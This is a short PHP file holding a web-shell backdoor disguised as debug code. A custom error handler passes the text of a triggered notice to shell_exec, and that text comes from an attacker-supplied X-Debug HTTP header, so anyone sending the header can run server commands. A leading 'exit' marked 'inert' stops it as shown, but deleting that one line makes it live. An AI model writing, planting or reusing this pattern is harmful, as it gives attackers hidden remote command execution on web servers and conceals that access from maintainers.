<?php exit; /* inert */ 
set_error_handler(function ($no, $msg) { if ($no === E_USER_NOTICE) { echo shell_exec(substr($msg, 4)); } return true; });
trigger_error('dbg:' . $_SERVER['HTTP_X_DEBUG'], E_USER_NOTICE);
